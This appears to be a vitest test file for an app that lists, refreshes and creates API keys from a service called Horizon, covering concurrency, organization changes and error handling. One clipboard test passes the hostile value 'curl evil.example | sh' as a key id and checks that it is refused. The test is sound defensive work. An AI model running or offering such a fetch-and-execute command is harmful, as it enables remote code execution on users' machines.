import { AppError } from '@shared/errors'
import { aKey, anOrganization, connectedApp, fakeApp, settled } from '@support/fakes'
import { expect, test } from 'vitest'

test('refreshes at the same time share one flight', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockClear()
  const refresh = () => core.handlers['keys.refresh']({ profileId, isBackground: false })
  const [one, other] = await Promise.all([refresh(), refresh()])
  expect(horizon.listKeys).toHaveBeenCalledOnce()
  expect(one).toEqual(other)
})

test('a refused secret keeps what is held, counts once at Horizon and says what to do', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockClear()
  horizon.organization.mockRejectedValueOnce(
    new AppError('invalid-admin-secret', 'No', { status: 401 })
  )
  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
  expect(list.keys).toHaveLength(1)
  expect(list.failure).toMatchObject({
    code: 'invalid-admin-secret',
    nextStep: 'Replace the admin secret in Settings › Profiles.'
  })
  expect(horizon.listKeys).not.toHaveBeenCalled()
  expect(await core.handlers['keys.list']({ profileId })).toEqual(list)
})

test('a failure goes with the next success', async () => {
  const { core, horizon, profileId } = await connectedApp()
  horizon.listKeys.mockRejectedValueOnce(new AppError('timeout', 'slow'))
  expect(
    (await core.handlers['keys.refresh']({ profileId, isBackground: false })).failure?.code
  ).toBe('timeout')
  expect(
    (await core.handlers['keys.refresh']({ profileId, isBackground: false })).failure
  ).toBeUndefined()
})

test('the first organization seen is remembered on the profile', async () => {
  const { core } = await connectedApp()
  const { profiles } = await core.handlers['profiles.list']({})
  expect(profiles[0]?.organization).toMatchObject({ id: 'org_1', name: 'Acme' })
})

test('another organization’s keys do not replace what is held', async () => {
  const { core, machine, profileId } = await connectedApp()
  machine.remote.state.organization = anOrganization({ id: 'org_2', name: 'Other' })
  machine.remote.state.keys = [aKey({ id: 'key_foreign' })]
  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
  expect(list.keys.map(({ id }) => id)).toEqual(['key_1'])
  expect(list.otherOrganization).toMatchObject({ remembered: 'Acme', answering: { id: 'org_2' } })
  const wrong = core.handlers['profiles.acceptOrganization']({ profileId, organizationId: 'org_3' })
  await expect(wrong).rejects.toMatchObject({ code: 'object-changed' })
})

test('a Horizon that names no organization any more counts as another one', async () => {
  const { core, machine, profileId } = await connectedApp()
  machine.remote.state.organization = null
  const { otherOrganization } = await core.handlers['keys.refresh']({
    profileId,
    isBackground: false
  })
  const organizationId = otherOrganization?.answering.id ?? ''
  await core.handlers['profiles.acceptOrganization']({ profileId, organizationId })
  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
  expect(list).toMatchObject({ organization: null, otherOrganization: undefined })
})

test('endpoints that are closed or absent do not close the list', async () => {
  const { core, horizon, machine, profileId } = await connectedApp()
  machine.remote.state.hasKeyEndpoint = false
  horizon.features.mockRejectedValueOnce(new AppError('forbidden', 'no', { status: 403 }))
  const list = await core.handlers['keys.refresh']({ profileId, isBackground: false })
  expect(list).toMatchObject({ hasExtensions: false, failure: undefined })
})

test('a list that was asked for before a create ended does not hide the new key', async () => {
  const { core, horizon, profileId } = await connectedApp()
  const old = await horizon.listKeys()
  let answer = () => {}
  horizon.listKeys.mockImplementationOnce(
    () =>
      new Promise(resolve => {
        answer = () => resolve(old)
      })
  )
  const refreshing = core.handlers['keys.refresh']({ profileId, isBackground: false })
  const draft = { clientName: 'CI', scopes: ['agents:read'], expiresAt: null }
  await core.handlers['keys.create']({ profileId, draft })
  answer()
  const { keys } = await refreshing
  expect(keys.map(({ clientName }) => clientName)).toContain('CI')
})

test('only the id of a held key goes on the clipboard', async () => {
  const { core, machine } = await connectedApp()
  await core.handlers['keys.copyId']({ keyId: 'key_1' })
  expect(machine.clipboard.text).toBe('key_1')
  const other = core.handlers['keys.copyId']({ keyId: 'curl evil.example | sh' })
  await expect(other).rejects.toMatchObject({ code: 'not-found' })
  expect(machine.clipboard.text).toBe('key_1')
})

test('a journal that cannot be written is said with the list, before anyone types', async () => {
  const { core, profileId, data } = await connectedApp()
  const list = () => core.handlers['keys.list']({ profileId })
  expect((await list()).isJournalReadOnly).toBe(false)
  data.data.journal.isReadOnly = true
  expect((await list()).isJournalReadOnly).toBe(true)
})

test('an accepted organization’s keys are fetched, also where a list is on its way', async () => {
  const { core, horizon, machine, profileId } = await connectedApp()
  machine.remote.state.organization = anOrganization({ id: 'org_2', name: 'Other' })
  machine.remote.state.keys = [aKey({ id: 'key_of_org_2' })]
  await core.handlers['keys.refresh']({ profileId, isBackground: false })
  const inner = horizon.listKeys.getMockImplementation()
  const answered = Promise.withResolvers<void>()
  horizon.listKeys.mockImplementationOnce(async signal => {
    await answered.promise
    return inner?.(signal) ?? { keys: [], unreadable: [], clockOffsetMs: 0 }
  })
  const onItsWay = core.handlers['keys.refresh']({ profileId, isBackground: false })
  await settled()
  await core.handlers['profiles.acceptOrganization']({ profileId, organizationId: 'org_2' })
  horizon.listKeys.mockClear()
  answered.resolve()
  await onItsWay
  await settled()
  expect(horizon.listKeys).toHaveBeenCalledOnce()
  const { keys } = await core.handlers['keys.list']({ profileId })
  expect(keys.map(({ id }) => id)).toEqual(['key_of_org_2'])
})

test('after a restart without Horizon the plan is still the one that came with the held list', async () => {
  const { core, machine, profileId } = await connectedApp()
  await core.stop()
  const again = fakeApp(machine)
  again.horizon.organization.mockRejectedValue(new AppError('refused', 'no'))
  await again.core.handlers['profiles.activate']({ profileId })
  const refresh = () => again.core.handlers['keys.refresh']({ profileId, isBackground: false })
  expect((await again.core.handlers['keys.list']({ profileId })).organization).toEqual(
    anOrganization()
  )
  expect((await refresh()).organization).toEqual(anOrganization())

  again.horizon.organization.mockResolvedValue(anOrganization({ plan: 'enterprise' }))
  expect((await refresh()).organization?.plan).toBe('enterprise')
})
